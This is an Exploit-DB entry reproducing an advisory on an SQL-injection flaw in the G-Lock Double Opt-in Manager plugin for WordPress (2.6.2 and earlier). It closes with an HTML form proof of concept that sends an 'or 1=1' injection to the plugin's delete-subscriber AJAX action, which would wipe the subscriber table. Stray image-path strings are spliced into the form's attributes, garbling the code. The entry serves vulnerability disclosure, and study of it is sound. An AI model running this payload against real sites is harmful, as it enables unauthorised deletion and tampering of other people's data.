WordPress G-Lock Double Opt-in Manager Plugin SQL Injection Vulnerability

ID EDB-ID:37563
Type exploitdb
Modified 2012-08-01T00:00:00WordPress G-Lock Double Opt-in Manager Plugin SQL Injection Vulnerability. Webapps exploit for php platform

                                            source: http://www.securityfocus.com/bid/54767/info

G-Lock Double Opt-in Manager plugin for WordPress is prone to an SQL-injection vulnerability because it fails to sufficiently sanitize user-supplied data before using it in an SQL query.

Exploiting this issue could allow an attacker to compromise the application, access or modify data, or exploit latent vulnerabilities in the underlying database.

G-Lock Double Opt-in Manager 2.6.2 and prior versions are vulnerable.

<form method="post" action="http://myserver/wp-admin/admin-ajax.php">
<input type="text" name="action"value="gsom_aj_delete_subscriber">
<input type="text" name="json" value="["intId or1=1"]">
<input type="text" name="_"value="">
<input type="submit">